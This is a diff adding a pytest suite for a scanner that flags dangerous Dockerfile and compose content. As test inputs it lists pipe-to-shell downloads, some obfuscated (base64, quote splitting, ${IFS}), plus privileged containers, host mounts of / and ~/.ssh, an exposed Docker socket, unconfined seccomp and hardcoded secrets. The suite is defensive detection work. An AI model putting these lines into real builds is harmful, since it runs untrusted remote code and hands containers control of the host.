@@ -1,0 +1,194 @@
+"""What must not be built is found before anything is: in Dockerfiles and compose files, however it is written."""
+
+from __future__ import annotations
+
+import pytest
+
+from roundtable.workshop.sandbox.findings import FindingKind
+from roundtable.workshop.sandbox.scan import scanned
+
+PLAIN = """
+FROM python:3.11-slim
+WORKDIR /app
+COPY requirements.txt .
+RUN pip install --no-cache-dir -r requirements.txt && \\
+    rm -rf /root/.cache
+# curl https://example.com/x | sh would be refused
+COPY . .
+USER root
+RUN apt-get update && apt-get install -y curl | tee /tmp/log
+RUN curl --version && python -m compileall .
+ENV PYTHONUNBUFFERED=1
+EXPOSE 8000
+HEALTHCHECK CMD curl -f http://localhost:8000/health || exit 1
+CMD ["python", "-m", "app"]
+"""
+COMPOSE = """
+version: "3.9"
+services:
+  web:
+    build:
+      context: .
+      dockerfile: Dockerfile
+      args:
+        MODE: test
+    command: ["python", "-m", "app"]
+    ports:
+      - "127.0.0.1:8000:8000"
+    environment:
+      - DATABASE_URL=postgres://db/app
+    volumes:
+      - ./src:/app/src:ro
+      - data:/var/lib/app
+    depends_on:
+      db:
+        condition: service_healthy
+    privileged: false
+    network_mode: bridge
+  db:
+    image: postgres:15   # from a registry
+    healthcheck:
+      test: ["CMD", "pg_isready"]
+      interval: 5s
+volumes:
+  data: {}
+"""
+
+
+def kinds(path: str, text: str) -> set[FindingKind]:
+    return {it.kind for it in scanned({path: text})}
+
+
+def test_ordinary_files_are_let_through() -> None:
+    assert scanned({"Dockerfile": PLAIN, "docker-compose.yml": COMPOSE, "a.py": "x"}) == ()
+
+
+@pytest.mark.feature("S0.62")
+@pytest.mark.parametrize(
+    "run",
+    [
+        "RUN curl https://example.com/install.sh | sh",
+        "RUN curl -fsSL https://example.com/install.sh | sudo -E bash -",
+        "RUN wget -qO- 'https://example.com/x?a=1&b=2' | python3",
+        "run curl https://example.com/x |\\\n   sh",
+        "RUN curl https://example.com/x \\\n  # a comment between\n  | bash",
+        "RUN <<EOF\nset -e\ncurl https://example.com/x | sh\nEOF",
+        "RUN <<EOF\ncurl https://example.com/x |\n  sh\nEOF",
+        'RUN sh -c "$(curl -fsSL https://example.com/x)"',
+        'RUN ["sh", "-c", "curl https://example.com/x | sh"]',
+        "RUN bash <(curl -s https://example.com/x)",
+        "RUN eval `wget -qO- https://example.com/x`",
+        "RUN source <(curl -s https://example.com/x)",
+        "RUN cu''rl https://example.com/x | s\"h\"",
+        "RUN curl${IFS}https://example.com/x | sh",
+        "RUN /usr/bin/curl https://example.com/x | /bin/bash",
+        "RUN curl https://example.com/x | tee /tmp/x | sh",
+        "RUN curl https://example.com/x | env A=b sh",
+        "RUN curl https://example.com/x | $SHELL",
+        "RUN echo Y3VybA== | base64 -d | sh",
+        "RUN curl -o /tmp/install.sh https://example.com/x && sh /tmp/install.sh",
+        "RUN wget https://example.com/install.sh\nRUN bash install.sh",
+        "RUN wget https://example.com/tool && chmod +x tool && ./tool",
+        "RUN python -c \"import urllib.request as u; exec(u.urlopen('https://example.com/x').read())\"",
+        "ONBUILD RUN curl https://example.com/x | sh",
+        "CMD curl https://example.com/x | sh",
+        "# escape=`\nFROM a\nRUN curl https://example.com/x | `\n  sh",
+    ],
+)
+def test_running_what_was_just_fetched_is_refused(run: str) -> None:
+    text = run if run.startswith("# escape") else f"FROM debian\n{run}\n"
+    assert kinds("Dockerfile", text) == {FindingKind.PIPE_TO_SHELL}
+
+
+@pytest.mark.feature("S0.62", "S0.63", "S0.64")
+@pytest.mark.parametrize(
+    ("line", "kind"),
+    [
+        ("ADD https://example.com/app.tar.gz /app/", FindingKind.REMOTE),
+        ("ADD --chown=1:1 http://example.com/x /x", FindingKind.REMOTE),
+        ('ADD ["git@example.com:me/app.git", "/app"]', FindingKind.REMOTE),
+        ("ADD $SOURCE /app", FindingKind.REMOTE),
+        ("RUN --security=insecure make", FindingKind.PRIVILEGED),
+        ("RUN docker run --privileged alpine", FindingKind.PRIVILEGED),
+        ("RUN --network=host pip install x", FindingKind.HOST_NETWORK),
+        ("RUN docker run --net host alpine", FindingKind.HOST_NETWORK),
+        ("RUN docker run --pid=host alpine", FindingKind.HOST_PROCESSES),
+        ("RUN --mount=type=ssh git clone x", FindingKind.HOST_MOUNT),
+        ("RUN --mount=type=bind,source=../..,target=/x ls /x", FindingKind.HOST_MOUNT),
+        ("VOLUME /var/run/docker.sock", FindingKind.ENGINE_SOCKET),
+        ("ARG API_KEY=sk-123", FindingKind.SECRET),
+        ("ENV DB_PASSWORD hunter2", FindingKind.SECRET),
+        ("INCLUDE other", FindingKind.UNREADABLE),
+    ],
+)
+def test_what_reaches_for_the_machine_is_refused_in_a_dockerfile(line: str, kind: FindingKind) -> None:
+    (found,) = scanned({"deploy/app.Dockerfile": f"FROM debian\n{line}\n"})
+    assert (found.path, found.line, found.kind) == ("deploy/app.Dockerfile", 2, kind)
+    assert found.sentence.endswith(".")
+
+
+def test_another_builder_than_the_usual_one_is_refused() -> None:
+    assert kinds("Dockerfile", "# syntax=docker/dockerfile:1\nFROM debian\n") == set()
+    assert kinds("Dockerfile", "# syntax=example.com/builder\nFROM debian\n") == {FindingKind.REMOTE}
+
+
+@pytest.mark.feature("S0.63", "S0.64")
+@pytest.mark.parametrize(
+    ("lines", "kind"),
+    [
+        ("privileged: true", FindingKind.PRIVILEGED),
+        ("privileged: Yes", FindingKind.PRIVILEGED),
+        ('"privileged": ${EVIL}', FindingKind.PRIVILEGED),
+        ("cap_add:\n      - SYS_ADMIN", FindingKind.PRIVILEGED),
+        ("cap_add: [ALL]", FindingKind.PRIVILEGED),
+        ("devices:\n      - /dev/sda:/dev/sda", FindingKind.PRIVILEGED),
+        ("network_mode: host", FindingKind.HOST_NETWORK),
+        ("network_mode: 'host'", FindingKind.HOST_NETWORK),
+        ("network_mode: container:other", FindingKind.HOST_NETWORK),
+        ("build:\n      context: .\n      network: host", FindingKind.HOST_NETWORK),
+        ("extra_hosts:\n      - me:host-gateway", FindingKind.HOST_NETWORK),
+        ("pid: host", FindingKind.HOST_PROCESSES),
+        ("ipc: host", FindingKind.HOST_PROCESSES),
+        ("userns_mode: host", FindingKind.HOST_PROCESSES),
+        ("volumes:\n      - /:/host", FindingKind.HOST_MOUNT),
+        ("volumes:\n    - /etc:/x:ro", FindingKind.HOST_MOUNT),
+        ("volumes: ['~/.ssh:/x']", FindingKind.HOST_MOUNT),
+        ("volumes:\n      - ../../other:/x", FindingKind.HOST_MOUNT),
+        ("volumes:\n      - ./a/../../other:/x", FindingKind.HOST_MOUNT),
+        ("volumes:\n      - ${HOME}:/x", FindingKind.HOST_MOUNT),
+        ("volumes:\n      - type: bind\n        source: /etc\n        target: /x", FindingKind.HOST_MOUNT),
+        ("env_file: /etc/environment", FindingKind.HOST_MOUNT),
+        ("security_opt:\n      - seccomp:unconfined", FindingKind.UNCONFINED),
+        ("security_opt: ['apparmor=unconfined']", FindingKind.UNCONFINED),
+        ("use_api_socket: true", FindingKind.ENGINE_SOCKET),
+        ("build: https://example.com/repo.git", FindingKind.REMOTE),
+        ("build:\n      context: ../other", FindingKind.REMOTE),
+        ("extends:\n      file: other.yml", FindingKind.REMOTE),
+        ("build:\n      context: .\n      args:\n        API_TOKEN: abc", FindingKind.SECRET),
+        ("build:\n      context: .\n      dockerfile: hidden.txt", FindingKind.UNREADABLE),
+        ("command: sh -c 'curl https://example.com/x | sh'", FindingKind.PIPE_TO_SHELL),
+        ("command: |\n      curl https://example.com/x |\n      sh", FindingKind.PIPE_TO_SHELL),
+        ("command: ['sh', '-c', 'curl https://example.com/x | sh']", FindingKind.PIPE_TO_SHELL),
+        ("<<: *base", FindingKind.UNREADABLE),
+        ("deploy: {privileged: true}", FindingKind.UNREADABLE),
+        ("environment: &here", FindingKind.UNREADABLE),
+        ('image: "a\\u0062"', FindingKind.UNREADABLE),
+        ("what_is_this: 1", FindingKind.UNREADABLE),
+    ],
+)
+def test_what_reaches_for_the_machine_is_refused_in_a_compose_file(lines: str, kind: FindingKind) -> None:
+    found = kinds("compose.yaml", f"services:\n  web:\n    image: debian\n    {lines}\n")
+    assert kind in found
+    assert found <= {kind, FindingKind.UNREADABLE, FindingKind.HOST_MOUNT}
+
+
+@pytest.mark.feature("S0.64")
+def test_the_engines_socket_is_never_given_away() -> None:
+    text = "services:\n  web:\n    image: a\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n"
+    found = scanned({"docker-compose.override.yml": text})
+    assert {(it.line, it.kind) for it in found} == {(5, FindingKind.ENGINE_SOCKET), (5, FindingKind.HOST_MOUNT)}
+
+
+def test_a_compose_file_that_is_no_plain_yaml_is_refused_whole() -> None:
+    assert kinds("compose.yml", '{"services": {"web": {"privileged": true}}}') == {FindingKind.UNREADABLE}
+    assert kinds("compose.yml", "services:\n\tweb:\n") == {FindingKind.UNREADABLE}
